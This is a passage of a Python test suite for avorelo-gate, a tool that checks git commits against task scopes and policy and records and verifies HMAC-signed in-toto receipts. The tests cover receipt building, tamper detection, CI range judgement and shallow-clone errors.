def test_receipt_time_refuses_what_is_not_a_time_in_years_1_to_9999(epoch: str) -> None:
    with pytest.raises(BadInputError) as e:
        build.receipt_time({"SOURCE_DATE_EPOCH": epoch})
    assert str(e.value) == f"SOURCE_DATE_EPOCH: {epoch!r} is not a Unix time in seconds"


@pytest.mark.parametrize("environ", [{}, {"SOURCE_DATE_EPOCH": "  "},
                                     {"source_date_epoch": "0"}])
def test_receipt_time_is_now_unless_pinned(environ: dict[str, str]) -> None:
    before = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    stamp = build.receipt_time(environ)
    after = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", stamp), stamp
    assert before <= stamp <= after


def _touched(paths: list[str]) -> tuple[TouchedFile, ...]:
    return tuple(TouchedFile(p, "A", 1, 0, False) for p in paths)


def _result(paths: list[str], **extra: Any) -> CheckResult:
    touched = _touched(paths)
    return CheckResult(base="b", head="h", label="h", task=None, model=None,
                       diff=DiffSummary.of(touched), touched=touched, extra=extra)


@pytest.mark.parametrize(("count", "truncated"), [(1000, False), (1001, True)])
def test_diff_record_keeps_1000_paths_sorted_by_bytes(count: int, truncated: bool) -> None:
    paths = [f"f/{i:04d}" for i in range(count - 2)] + [ACCENT, LOW_BYTE]
    record = build.diff_record(_result(paths))
    by_bytes = sorted(paths, key=os.fsencode)
    assert by_bytes[:2] == [LOW_BYTE, ACCENT]          # bytes order, not text order
    assert record == {"files": count, "added": count, "removed": 0,
                      "paths_sha256": build.paths_digest(paths),
                      "paths": by_bytes[:1000], "paths_truncated": truncated}


def test_diff_record_lists_changed_task_files_sorted_by_bytes() -> None:
    record = build.diff_record(_result(["x"], task_files_changed=["b", ACCENT, LOW_BYTE]))
    assert record["task_files_changed"] == [LOW_BYTE, ACCENT, "b"]
    assert "task_files_changed" not in build.diff_record(_result(["x"], task_files_changed=[]))


def test_field_sources_name_where_each_field_came_from() -> None:
    f = ".avorelo/tasks/T-1.yaml"
    full = ResolvedTask(id="T-1", id_source="trailer:Task", file=f, title="t",
                        scope=("src/**",), forbid=("src/k",), budget=Budget(max_files=3),
                        risk="low", proof=({"kind": "junit"},), context=("c",),
                        tools=("pytest",), trailer_scope=("src/a",))
    assert build.field_sources(full) == {
        "id": "trailer:Task", "title": f, "scope": f, "forbid": f, "budget": f, "risk": f,
        "proof": f, "context": f, "tools": f, "trailer_scope": "trailer:Task-Scope"}
    # A field the file leaves out is not said to come from it; a trailer-only scope is "scope".
    assert build.field_sources(ResolvedTask(file=f, scope=("src/**",))) == {"scope": f}
    assert build.field_sources(ResolvedTask(id="T-2", id_source="env:AVORELO_TASK",
                                            trailer_scope=("docs/**",))) == {
        "id": "env:AVORELO_TASK", "scope": "trailer:Task-Scope"}
    assert build.task_record(ResolvedTask()) is None
    record = build.task_record(ResolvedTask(id="T-3", id_source="--task"))
    assert record == dict(ResolvedTask(id="T-3").to_dict(), field_sources={"id": "--task"})


@pytest.mark.parametrize(("paths", "allowed", "recorded"), [
    ([".avorelo/policy.yaml", "src/a.py"], True, True),
    ([".avorelo/policy.yaml"], False, False),
    (["src/a.py", ".avorelo/policy.yaml.bak"], True, False),    # permission that did not matter
])
def test_policy_change_permission_recorded_only_where_it_mattered(
        paths: list[str], allowed: bool, recorded: bool) -> None:
    checked: Any = SimpleNamespace(result=_result(paths))
    assert build.policy_change_allowed(checked, allowed) is recorded


COMMIT, TREE = "c" * 40, "e" * 40
UNSIGNED = build.build_statement(COMMIT, TREE, {"verdict": "pass", "time": "now"})
PAYLOAD = ('{"_type":"https://in-toto.io/Statement/v1","predicate":{"time":"now",'
           '"verdict":"pass"},"predicateType":"https://avorelo.dev/receipt/v1","subject":'
           f'[{{"digest":{{"gitCommit":"{COMMIT}","gitTree":"{TREE}"}},"name":"{COMMIT}"}}]}}'
           ).encode()


def kid(key: str) -> str:
    return hashlib.sha256(b"avorelo-receipt-key\0" + key.encode()).hexdigest()[:16]


def test_statement_and_its_hmac_signature_over_the_canonical_payload() -> None:
    assert build.canonical_bytes(UNSIGNED) == PAYLOAD
    for key in ("k", "cl\u00e9"):
        signed = build.sign_statement(UNSIGNED, key)
        assert build.signed_payload(signed) == PAYLOAD       # the signature left out
        assert signed["predicate"]["signature"] == {
            "alg": "hmac-sha256", "keyid": kid(key),
            "value": hmac.new(key.encode(), PAYLOAD, hashlib.sha256).hexdigest()}
        assert {k: v for k, v in signed.items() if k != "predicate"} == \
            {k: v for k, v in UNSIGNED.items() if k != "predicate"}
        assert build.subject_of(signed) == (COMMIT, TREE)
    for key in (None, ""):
        assert build.sign_statement(UNSIGNED, key)["predicate"] == \
            {"verdict": "pass", "time": "now", "signature": {"alg": "none"}}
    assert "signature" not in UNSIGNED["predicate"]           # the input is left as it was


def test_signature_problems_and_descriptions_exactly() -> None:
    signed = build.sign_statement(UNSIGNED, "k")
    unsigned = build.sign_statement(UNSIGNED, None)
    edited = dict(signed, predicate=dict(signed["predicate"], verdict="fail"))
    assert build.signature_problem(signed, "k") is None
    assert build.signature_problem(signed, None) is None      # not checked without the key
    assert build.signature_problem(unsigned, "k") is None     # unsigned: nothing to check
    assert build.signature_problem(signed, "other") == (
        f"signature: signed with another key (key id {kid('k')}, AVORELO_RECEIPT_KEY is key "
        f"id {kid('other')})")
    assert build.signature_problem(edited, "k") == \
        "signature: does not match the receipt's content (the receipt was edited)"
    assert build.describe_signature(unsigned, "k") == "unsigned"
    assert build.describe_signature(signed, None) == (
        f"signed (hmac-sha256, key id {kid('k')}; not checked: AVORELO_RECEIPT_KEY is not set)")
    assert build.describe_signature(signed, "k") == \
        f"signed (hmac-sha256, key id {kid('k')}): valid"
    assert build.describe_signature(edited, "k") == \
        f"signed (hmac-sha256, key id {kid('k')}): INVALID"
    assert build.signing_key({"AVORELO_RECEIPT_KEY": "k"}) == "k"
    assert build.signing_key({"AVORELO_RECEIPT_KEY": ""}) is None
    assert build.signing_key({}) is None


# -- receipts/verify.py -----------------------------------------------------------------------
def test_replay_env_replaces_the_verifiers_claims_by_the_receipts_own() -> None:
    mine = {"AVORELO_TASK": "MINE", "AVORELO_MODEL": "m", "AVORELO_MODEL_WEIGHT": "heavy",
            "AVORELO_ALLOW_POLICY_CHANGE": "1", "HOME": "/h", "AVORELO_RECEIPT_KEY": "k"}
    nothing = {"model": None, "task": None, "options": {"allow_policy_change": False}}
    assert verify.replay_env(mine, nothing) == {"HOME": "/h", "AVORELO_RECEIPT_KEY": "k"}
    claimed = {"model": {"weight": "light", "name": "haiku",
                         "source": {"weight": "env:AVORELO_MODEL_WEIGHT",
                                    "name": "env:AVORELO_MODEL"}},
               "task": {"id": "T-9", "field_sources": {"id": "env:AVORELO_TASK"}},
               "options": {"allow_policy_change": True}}
    assert verify.replay_env(mine, claimed) == {
        "HOME": "/h", "AVORELO_RECEIPT_KEY": "k", "AVORELO_MODEL_WEIGHT": "light",
        "AVORELO_MODEL": "haiku", "AVORELO_TASK": "T-9", "AVORELO_ALLOW_POLICY_CHANGE": "1"}
    # Claims made elsewhere (trailers, the task file) are recomputed, not replayed.
    elsewhere = {"model": {"weight": "light", "name": "haiku",
                           "source": {"weight": "trailer:Model-Weight", "name": "task-file"}},
                 "task": {"id": "T-9", "field_sources": {"id": "trailer:Task"}},
                 "options": {"allow_policy_change": False}}
    assert verify.replay_env({}, elsewhere) == {}
    # A claimed source with no value, and a task without field_sources, replay nothing.
    empty = {"model": {"weight": None, "name": "",
                       "source": {"weight": "env:AVORELO_MODEL_WEIGHT",
                                  "name": "env:AVORELO_MODEL"}},
             "task": {"id": None, "field_sources": {"id": "env:AVORELO_TASK"}},
             "options": {"allow_policy_change": False}}
    assert verify.replay_env({}, empty) == {}
    assert verify.replay_env({}, {"model": {"weight": "light"}, "task": {"id": "T"},
                                  "options": {"allow_policy_change": False}}) == {}


def _v(rule: str, path: str | None = None) -> dict[str, Any]:
    return {"rule": rule, "path": path, "message": "m", "hint": None}


def test_verdict_problems_compare_rules_and_paths_and_take_proof_as_recorded() -> None:
    def problems(said: str, listed: list[dict[str, Any]],
                 recomputed: list[dict[str, Any]]) -> list[str]:
        return verify.verdict_problems({"verdict": said, "violations": listed},
                                       {"violations": recomputed})

    assert problems("fail", [], []) == [
        "verdict: the receipt says 'fail' but lists 0 violation(s) (the verdict was edited)"]
    assert problems("pass", [_v("forbidden", "a")], [_v("forbidden", "a")]) == [
        "verdict: the receipt says 'pass' but lists 1 violation(s) (the verdict was edited)"]
    same = [_v("out-of-scope", "b"), _v("require-task")]
    assert problems("fail", same, list(reversed(same))) == []
    assert problems("pass", [], []) == []
    assert problems("pass", [], [_v("out-of-scope", "docs/a.md"), _v("require-task")]) == [
        "verdict: the receipt says 'pass', the commit gives 'fail'; recorded [none], "
        "recomputed [out-of-scope docs/a.md, require-task]"]
    assert problems("fail", [_v("out-of-scope", "docs/a.md")], []) == [
        "verdict: the receipt says 'fail', the commit gives 'pass'; recorded "
        "[out-of-scope docs/a.md], recomputed [none]"]
    # Proof results are the receipt's own: only the other rules are compared.
    assert problems("fail", [_v("proof-missing", "tests"), _v("proof-stale", "x")], []) == []
    assert problems("fail", [_v("proof-failed")], [_v("proof-missing", "y")]) == []
    assert problems("fail", [_v("proof-invalid", "t"), _v("forbidden", "a")], []) == [
        "violations differ: recorded [forbidden a], recomputed [none]"]
    assert problems("fail", [_v("forbidden", "a")], [_v("forbidden", "b")]) == [
        "violations differ: recorded [forbidden a], recomputed [forbidden b]"]


def test_field_problems_name_each_differing_field_and_shorten_values() -> None:
    assert verify.field_problems("task", "the task", {"id": "T"}, {"id": "T"}) == []
    assert verify.field_problems("context", "the context set", None, ["a"]) == [
        "context: the context set differs: the receipt says None, recomputed from the commit "
        "['a']"]
    assert verify.field_problems("tools", "the tools", {"a": 1}, ["a"]) == [
        "tools: the tools differs: the receipt says {'a': 1}, recomputed from the commit ['a']"]
    assert verify.field_problems("model", "the model", {"weight": "heavy", "name": "n",
                                                        "extra": 1},
                                 {"weight": "light", "name": "n", "claimed": True}) == [
        "model.claimed: the receipt says None, recomputed from the commit True",
        "model.extra: the receipt says 1, recomputed from the commit None",
        "model.weight: the receipt says 'heavy', recomputed from the commit 'light'"]
    assert verify._short("x" * 118) == repr("x" * 118)           # 120 characters: kept
    assert verify._short("x" * 119) == "'" + "x" * 116 + "..."   # 121: cut to 120


def test_verification_violations_and_dict_exactly() -> None:
    c = "a" * 40
    assert verify.Verification(c, "missing", ("fetch them",)).violations() == [
        Violation("receipt-missing", "no receipt for this commit", None, "fetch them",
                  commit=c)]
    assert verify.Verification(c, "missing").violations() == [
        Violation("receipt-missing", "no receipt for this commit", None, None, commit=c)]
    hint = f"re-record it if the commit is right: avorelo-gate receipt record {c[:12]}"
    assert verify.Verification(c, "invalid", ("p1", "p2")).violations() == [
        Violation("receipt-invalid", "p1", None, hint, commit=c),
        Violation("receipt-invalid", "p2", None, hint, commit=c)]
    assert verify.Verification(c, "valid").violations() == []
    assert verify.Verification(c, "invalid", ("p",)).to_dict() == {
        "commit": c, "status": "invalid", "problems": ["p"], "signature": None}
    assert verify.Verification(c, "valid", signature="unsigned").to_dict() == {
        "commit": c, "status": "valid", "problems": [], "signature": "unsigned"}


def test_signature_problems_when_the_policy_demands_signed_receipts() -> None:
    demands: Any = SimpleNamespace(policy=SimpleNamespace(receipts_signed=True))
    lax: Any = SimpleNamespace(policy=SimpleNamespace(receipts_signed=False))
    signed = build.sign_statement(UNSIGNED, "k")
    unsigned = build.sign_statement(UNSIGNED, None)
    key = {"AVORELO_RECEIPT_KEY": "k"}
    assert verify.signature_problems(unsigned, demands, key) == [
        "signature: the receipt is unsigned and the policy demands signed receipts "
        "(receipts: {signed: true})"]
    assert verify.signature_problems(unsigned, demands, {}) == [
        "signature: the receipt is unsigned and the policy demands signed receipts "
        "(receipts: {signed: true})"]
    with pytest.raises(EnvironmentFailure) as e:
        verify.signature_problems(signed, demands, {})
    assert str(e.value) == ("AVORELO_RECEIPT_KEY is not set: the policy demands signed "
                            "receipts and they cannot be checked without the key")
    assert verify.signature_problems(signed, demands, key) == []
    assert verify.signature_problems(unsigned, lax, key) == []
    assert verify.signature_problems(signed, lax, {}) == []
    assert verify.signature_problems(signed, lax, {"AVORELO_RECEIPT_KEY": "other"}) == [
        build.signature_problem(signed, "other")]


def _verified(repo: GitRepo, spec: str) -> tuple[int, dict[str, dict[str, Any]]]:
    proc = repo.gate("receipt", "verify", spec, "--format", "json")
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc.returncode, {c["commit"]: c for c in json.loads(proc.stdout)["commits"]}


def test_verify_says_exactly_what_is_missing_copied_or_about_another_tree(
        repo: GitRepo) -> None:
    from avorelo_gate.receipts.store import FETCH_HINT

    repo.write(".avorelo/policy.yaml", "version: 1\n")
    repo.add()
    repo.commit("init")
    first = commit_file(repo, "a.txt", "one")
    second = commit_file(repo, "b.txt", "two")
    code, found = _verified(repo, "HEAD~2..HEAD")
    assert code == 1
    for c in (first, second):    # no notes ref at all: the hint is to fetch receipts
        assert found[c] == {"commit": c, "status": "missing", "signature": None,
                            "recorded_verdict": None,
                            "problems": [f"there are no receipts here: {FETCH_HINT}"]}
    recorded = repo.gate("receipt", "record", "HEAD~1")
    assert recorded.returncode == 0, recorded.stderr
    code, found = _verified(repo, "HEAD~2..HEAD")
    assert code == 1
    assert found[first] == {"commit": first, "status": "valid", "problems": [],
                            "signature": "unsigned", "recorded_verdict": "pass"}
    assert found[second]["problems"] == [
        f"record it, and push the receipts (ci reads them from the remote): avorelo-gate receipt "
        f"record {second[:12]} && git push origin refs/notes/avorelo"]
    note = note_of(repo, first)
    assert note is not None
    put_note(repo, second, note)                       # the first commit's receipt, copied
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 1
    assert found[second]["status"] == "invalid"
    assert found[second]["problems"] == [
        f"subject: the receipt is for commit {first[:12]}, not {second[:12]} (copied from "
        "another commit)"]
    assert repo.gate("receipt", "record").returncode == 0
    doc = json.loads(note_of(repo, second) or b"")
    doc["subject"][0]["digest"]["gitTree"] = "f" * 40
    put_note(repo, second, build.canonical_bytes(doc))
    tree = rev(repo, "HEAD^{tree}")
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 1
    assert found[second]["problems"] == [
        f"subject: gitTree {'f' * 12} is not the commit's tree {tree[:12]}"]


def commit_file(repo: GitRepo, path: str, message: str) -> str:
    repo.write(path, message + "\n")
    repo.add()
    return repo.commit(message)


# -- points/ci.py ---------------------------------------------------------------------------
def _decl(task_id: str | None = None, tools: tuple[str, ...] = (),
          approved: tuple[str, ...] = (), present: bool = True, scope: tuple[str, ...] = (),
          weight: str | None = None) -> Any:
    from avorelo_gate.task.trailers import TrailerDeclaration

    return TrailerDeclaration(task_id=task_id, scope=scope, model="m" if weight else None,
                              model_source="trailer:Model" if weight else None,
                              weight=weight, tools_used=tools, approved_by=approved,
                              present=present)


def test_range_declaration_is_heads_task_and_everyones_approvals_and_tools() -> None:
    from avorelo_gate.points.ci import range_declaration
    from avorelo_gate.points.commits import Commit

    commits = [Commit(s, ()) for s in ("c1", "c2", "c3", "c4")]
    declarations = {
        "c1": _decl("OLD-1", ("pytest", "ruff"), ("a@x",), scope=("src/a",), weight="light"),
        "c2": _decl("NEW-2", ("ruff", "mypy"), ("b@x", "a@x")),
        "c3": _decl(None, ("tox",), (), present=False),            # names no task
        "zz": _decl("OTHER-9"),                                    # not in the range
    }
    found, warnings = range_declaration(commits, declarations)
    assert found == _decl("NEW-2", ("pytest", "ruff", "mypy", "tox"), ("a@x", "b@x"))
    assert warnings == [
        "the commits declare several tasks (OLD-1, NEW-2): each commit is judged by its own, "
        "the range by head's, NEW-2, and every path by the task of a commit that touched it"]
    # Head names the oldest task again: the newest Task: is still head's own.
    again = dict(declarations, c4=_decl("OLD-1"))
    found, warnings = range_declaration(commits, again)
    assert found is not None and found.task_id == "OLD-1"
    assert warnings == [
        "the commits declare several tasks (OLD-1, NEW-2): each commit is judged by its own, "
        "the range by head's, OLD-1, and every path by the task of a commit that touched it"]
    one, warnings = range_declaration(commits[:1], declarations)
    assert one == _decl("OLD-1", ("pytest", "ruff"), ("a@x",)) and warnings == []
    unnamed, warnings = range_declaration(commits[2:], declarations)
    assert unnamed == _decl(None, ("tox",), (), present=False) and warnings == []
    assert range_declaration(commits[3:], declarations) == (None, [])
    assert range_declaration([], declarations) == (None, [])


def _scope_result(task_id: str | None, touched: list[str],
                  violations: list[tuple[str, str]]) -> CheckResult:
    return CheckResult(base="b", head="h", label="h",
                       task={"id": task_id} if task_id is not None else None, model=None,
                       diff=DiffSummary.of(_touched(touched)), touched=_touched(touched),
                       violations=tuple(Violation(r, "m", p) for r, p in violations))


def test_range_paths_are_covered_only_by_a_commit_allowed_to_touch_them() -> None:
    from avorelo_gate.points.ci import _covered_by_commits, _task_ids

    commits = [_scope_result("A", ["src/a.py", "docs/d.md"], [("out-of-scope", "docs/d.md")]),
               _scope_result("B", ["lib/l.py", "ci/x"], [("protected", "ci/x")]),
               _scope_result(None, ["etc/e"], [("forbidden", "etc/e")])]
    assert _task_ids(commits) == {"A", "B"}
    assert _task_ids([_scope_result("", [], []), _scope_result(None, [], [])]) == set()
    overall = _scope_result("A", [], [("out-of-scope", "src/a.py"), ("forbidden", "lib/l.py"),
                                      ("out-of-scope", "docs/d.md"), ("forbidden", "etc/e"),
                                      ("protected", "ci/x"), ("budget-files", None or ""),
                                      ("budget-lines", ""), ("weight-budget", "")])
    covered = _covered_by_commits(overall, commits, several_tasks=False)
    assert [(v.rule, v.path) for v in covered.violations] == [
        ("out-of-scope", "docs/d.md"), ("forbidden", "etc/e"), ("protected", "ci/x"),
        ("budget-files", ""), ("budget-lines", ""), ("weight-budget", "")]
    assert covered.notes == ("paths outside head's task were checked by the task of the commit "
                             "that touched them",)
    several = _covered_by_commits(overall, commits, several_tasks=True)
    assert [v.rule for v in several.violations] == [
        "out-of-scope", "forbidden", "protected", "weight-budget"]
    untouched = _covered_by_commits(_scope_result("A", [], [("out-of-scope", "docs/d.md")]),
                                    commits, several_tasks=False)
    assert untouched.notes == () and len(untouched.violations) == 1


def test_ci_notes_say_what_was_read_and_found_exactly(make_repo) -> None:  # type: ignore[no-untyped-def]
    from test_ci import ci_json, make_project

    project = make_project(make_repo)
    base = rev(project, "main")
    nothing = "nothing in scope changed: the range leaves the tree as it was"
    read = f"policy read from the base {base[:12]} (.avorelo/policy.yaml)"
    code, report = ci_json(project)
    assert code == 0, report
    notes = report["notes"]
    assert isinstance(notes, list) and notes[-1] == read and nothing not in notes
    assert f"no commits between the merge base {base[:12]} and head {base[:12]}: nothing to " \
        "check" in notes
    # No commits, so nothing was read ahead: the range's task is still read at head, held to
    # the merge base's version.
    task_file = project.git("rev-parse", "main:.avorelo/task.yaml").stdout.decode().strip()
    assert report["task"] == {"id": "T-1", "scope": ["src/**"], "forbid": [],
                              "sources": ["task-file"], "file": ".avorelo/task.yaml",
                              "file_blob": task_file}, report["task"]
    project.write("src/b.py", "b\n")
    project.add()
    project.commit("add")
    code, report = ci_json(project)
    assert code == 0, report
    notes = report["notes"]
    assert isinstance(notes, list) and notes[-1] == read and nothing not in notes
    assert not any(n.startswith("no commits") for n in notes)
    project.git("rm", "-q", "src/b.py")
    project.commit("remove again")
    code, report = ci_json(project)
    assert code == 0, report
    notes = report["notes"]
    assert isinstance(notes, list) and notes[-2:] == [nothing, read]
    bare = make_repo("bare")
    bare.write("src/a.py", "a\n")
    bare.add()
    bare.commit("init")
    bare.git("switch", "-q", "-c", "feature")
    bare.write("src/a.py", "b\n")
    bare.add()
    bare.commit("change")
    code, report = ci_json(bare)
    assert code == 0, report
    assert report["notes"][-1] == f"policy read from the base {rev(bare, 'main')[:12]} (defaults)"


def test_ci_range_says_when_its_commits_declare_several_tasks(make_repo) -> None:  # type: ignore[no-untyped-def]
    """The range is judged by head's task; that its commits named others is said, not
    lost (each commit was judged by its own)."""
    from test_ci import ci_json, commit, make_project

    project = make_project(make_repo)
    project.git("switch", "-q", "main")
    project.write(".avorelo/tasks/A-1.yaml", 'id: A-1\nscope: ["src/**"]\n')
    project.write(".avorelo/tasks/B-2.yaml", 'id: B-2\nscope: ["src/**"]\n')
    project.add()
    project.commit("plan two tasks")
    project.git("switch", "-q", "feature")
    project.git("merge", "-q", "--ff-only", "main")
    for task, path in (("A-1", "src/a1.py"), ("B-2", "src/b2.py")):
        commit(project, path, "x\n", f"work\n\nTask: {task}")
    code, report = ci_json(project)
    assert code == 0, report
    assert report["warnings"] == [
        "the commits declare several tasks (A-1, B-2): each commit is judged by its own, the "
        "range by head's, B-2, and every path by the task of a commit that touched it"], report


def test_ci_adoption_only_while_the_target_has_no_policy_either(make_repo) -> None:  # type: ignore[no-untyped-def]
    from test_ci import ci_json, commit, rules

    repo: GitRepo = make_repo("adopting")
    repo.write(".avorelo/task.yaml", 'id: T-1\nscope: ["src/**"]\n')
    repo.write("src/a.py", "a\n")
    repo.add()
    repo.commit("init")
    repo.git("switch", "-q", "-c", "feature")
    repo.write(".avorelo/policy.yaml", "version: 1\nrequire_task: true\n")
    repo.add()
    repo.commit("adopt on the branch\n\nTask: T-1")
    code, report = ci_json(repo)
    assert code == 0, report
    notes = report["notes"]
    assert isinstance(notes, list)
    assert any(n.startswith("adopting avorelo-gate: this change adds .avorelo/policy.yaml")
               for n in notes), notes
    # The target moves on without a policy: its tip is no longer the merge base, and the
    # branch's policy file is still the adoption (neither has one).
    repo.git("switch", "-q", "main")
    commit(repo, "src/b.py", "b\n", "more work on main")
    repo.git("switch", "-q", "feature")
    code, report = ci_json(repo)
    assert code == 0, report
    later_notes = report["notes"]
    assert isinstance(later_notes, list)
    assert any(n.startswith("adopting avorelo-gate") for n in later_notes), later_notes
    # The target adopts the gate after the branch forked: the branch's own policy file is now
    # a change of the policy, not the adoption.
    repo.git("switch", "-q", "main")
    repo.write(".avorelo/policy.yaml", "version: 1\n")
    repo.add()
    repo.commit("adopt on main")
    repo.git("switch", "-q", "feature")
    code, report = ci_json(repo)
    assert code == 1, report
    assert ("policy-changed", ".avorelo/policy.yaml") in rules(report)
    # Both the commit and the range say so (a violation with no "commit" is the range's).
    adopted = rev(repo, "feature")
    violations = report["violations"]
    assert isinstance(violations, list)
    assert {v.get("commit") for v in violations if v["rule"] == "policy-changed"} == {
        adopted, None}, violations


def test_ci_refusals_say_exactly_what_is_missing(make_repo, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from test_ci import make_project

    from avorelo_gate.points.ci import SHALLOW_FIX

    project = make_project(make_repo)
    feature = commit_file(project, "src/b.py", "b")
    for args, code, said in (
            (("--base", "nope"), 2, "--base nope: no such commit here (fetch it first: git "
                                    "fetch origin)"),
            (("--base", "main", "--head", "gone"), 2, "--head gone: no such commit here "
                                                      "(fetch it first: git fetch origin)")):
        proc = project.gate("ci", *args)
        assert proc.returncode == code and said in proc.stderr, proc.stderr
    clone = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", "--no-single-branch",
                    f"file://{project.path}", str(clone)], check=True)
    shallow = GitRepo(clone)
    for args, said in (
            (("--base", "origin/main", "--head", "origin/feature"),
             f"this shallow clone lacks the merge base of origin/main and origin/feature; "
             f"{SHALLOW_FIX}"),
            (("--base", "1" * 40), f"--base {'1' * 40}: not in this shallow clone; {SHALLOW_FIX}"),
            (("--base", "origin/main", "--head", "2" * 40),
             f"--head {'2' * 40}: not in this shallow clone; {SHALLOW_FIX}")):
        proc = shallow.gate("ci", *args)
        assert proc.returncode == 3 and said in proc.stderr, (args, proc.stderr)
    # The merge base is there but a commit of the range is at the clone's edge.
    project.git("switch", "-q", "-c", "side", "main")
    for i in range(3):
        commit_file(project, f"src/side{i}.py", f"side {i}")
    project.git("switch", "-q", "feature")
    project.git("merge", "-q", "--no-ff", "--no-verify", "-m", "merge side", "side")
    edge_clone = tmp_path / "edge"
    subprocess.run(["git", "clone", "-q", "--depth", "3", "--no-single-branch",
                    f"file://{project.path}", str(edge_clone)], check=True)
    edged = GitRepo(edge_clone)
    in_range = edged.git("rev-list", "origin/feature", "--not", "origin/main").stdout.split()
    shallow_edge = (edge_clone / ".git" / "shallow").read_bytes().split()
    [cut] = [c.decode() for c in in_range if c in shallow_edge]
    assert feature.encode() in in_range
    proc = edged.gate("ci", "--base", "origin/main", "--head", "origin/feature")
    assert proc.returncode == 3, proc.stderr
    assert (f"commit {cut[:12]} is at the edge of this shallow clone (its parents are "
            f"missing); {SHALLOW_FIX}") in proc.stderr


def test_verify_replays_the_maintainers_permission_recorded_for_a_policy_change(
        repo: GitRepo) -> None:
    repo.write(".avorelo/policy.yaml", "version: 1\n")
    repo.write("src/a.py", "a\n")
    repo.add()
    repo.commit("init")
    change = commit_file(repo, ".avorelo/policy.yaml", "version: 1\nprotected: ['ci/**']")
    recorded = repo.gate("receipt", "record", env={"AVORELO_ALLOW_POLICY_CHANGE": "1"})
    assert recorded.returncode == 0, recorded.stderr
    predicate = json.loads(note_of(repo) or b"")["predicate"]
    assert predicate["options"] == {"allow_policy_change": True}
    assert predicate["verdict"] == "pass"
    code, found = _verified(repo, "HEAD~1..HEAD")      # the verifier grants nothing itself
    assert code == 0 and found[change]["status"] == "valid", found
    assert repo.gate("receipt", "record").returncode == 0
    predicate = json.loads(note_of(repo) or b"")["predicate"]
    assert predicate["options"] == {"allow_policy_change": False}
    assert [v["rule"] for v in predicate["violations"]] == ["policy-changed"]
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 0 and found[change]["status"] == "valid", found
    # A receipt that claims the permission for a commit that needed none is edited.
    doc = json.loads(note_of(repo) or b"")
    doc["predicate"].update(verdict="pass", violations=[])
    doc["predicate"]["options"]["allow_policy_change"] = True
    put_note(repo, change, build.canonical_bytes(doc))
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 0, found          # the permission replayed makes the pass true
    unrelated = commit_file(repo, "src/b.py", "b")
    assert repo.gate("receipt", "record").returncode == 0
    doc = json.loads(note_of(repo) or b"")
    doc["predicate"]["options"]["allow_policy_change"] = True
    put_note(repo, unrelated, build.canonical_bytes(doc))
    code, found = _verified(repo, "HEAD~1..HEAD")
    assert code == 1
    assert found[unrelated]["problems"] == [
        "options.allow_policy_change: the receipt says True, recomputed from the commit False"]


def _ci_repo(make_repo, policy: str, tasks: dict[str, str],  # type: ignore[no-untyped-def]
             name: str = "budgets") -> GitRepo:
    repo: GitRepo = make_repo(name)
    repo.write(".avorelo/policy.yaml", policy)
    for path, text in tasks.items():
        repo.write(path, text)
    repo.write("src/a.py", "a\n")
    repo.add()
    repo.commit("init")
    repo.git("switch", "-q", "-c", "feature")
    return repo


def test_ci_judges_each_commits_task_from_the_merge_base(make_repo) -> None:  # type: ignore[no-untyped-def]
    from test_ci import ci_json, rules

    repo = _ci_repo(make_repo, "version: 1\nrequire_task: true\n",
                    {".avorelo/task.yaml": 'id: T-1\nscope: ["src/**"]\n'})
    commit_file(repo, ".avorelo/task.yaml", 'id: T-1\nscope: ["src/**", "docs/**"]')
    commit_file(repo, "docs/guide.md", "guide")
    code, report = ci_json(repo)
    # The branch may narrow its task, never widen it: the merge base's scope judges both the
    # commit that touched docs/ and the range.
    assert code == 1, report
    assert ("out-of-scope", "docs/guide.md") in rules(report)
    commits = report["commits"]
    assert isinstance(commits, list) and [c["verdict"] for c in commits] == ["pass", "fail"]


def test_ci_range_holds_one_tasks_budget_and_leaves_several_tasks_budgets_to_commits(
        make_repo) -> None:  # type: ignore[no-untyped-def]
    from test_ci import ci_json, rules

    one = _ci_repo(make_repo, "version: 1\n",
                   {".avorelo/task.yaml": 'id: T-1\nscope: ["src/**"]\nbudget: {max_files: 1}\n'})
    commit_file(one, "src/b.py", "b\n\nTask: T-1")
    commit_file(one, "src/c.py", "c\n\nTask: T-1")
    code, report = ci_json(one)
    assert code == 1, report            # one task: its budget is the range's too
    assert {r for r, _ in rules(report)} == {"budget-files"}
    commits = report["commits"]
    assert isinstance(commits, list) and [c["verdict"] for c in commits] == ["pass", "pass"]
    several = _ci_repo(make_repo, "version: 1\n", {
        ".avorelo/tasks/A-1.yaml": 'id: A-1\nscope: ["src/**"]\nbudget: {max_files: 1}\n',
        ".avorelo/tasks/B-2.yaml": 'id: B-2\nscope: ["src/**"]\nbudget: {max_files: 1}\n'},
        "several")
    commit_file(several, "src/b.py", "b\n\nTask: A-1")
    commit_file(several, "src/c.py", "c\n\nTask: B-2")
    code, report = ci_json(several)
    assert code == 0, report            # several tasks: each commit's budget is its own


def test_ci_range_leaves_weight_budgets_to_each_commit(make_repo) -> None:  # type: ignore[no-untyped-def]
    from test_ci import ci_json

    repo = _ci_repo(make_repo, "version: 1\nweights:\n  light: {max_files: 1}\n",
                    {".avorelo/task.yaml": 'id: T-1\nscope: ["src/**"]\nmodel: {weight: light}\n'})
    commit_file(repo, "src/b.py", "b")
    commit_file(repo, "src/c.py", "c")
    code, report = ci_json(repo)
    assert code == 0, report
    assert report["violations"] == []
    repo.write("src/d.py", "d\n")
    repo.write("src/e.py", "e\n")
    repo.add()
    repo.commit("two files at once")
    code, report = ci_json(repo)
    assert code == 1, report
    assert [v["rule"] for v in report["violations"]] == ["weight-budget"]
    assert all(v.get("commit") for v in report["violations"])


def test_receipt_records_the_observed_model_and_warns_of_a_disagreeing_claim(
        repo: GitRepo) -> None:
    from avorelo_gate.git.repo import open_repo
    from avorelo_gate.task.active import ObservedModel, write_observed

    repo.write(".avorelo/task.yaml", 'id: T-1\nscope: ["src/**"]\n')
    repo.write("src/a.py", "a\n")
    repo.add()
    repo.commit("init")
    write_observed(open_repo(str(repo.path)),
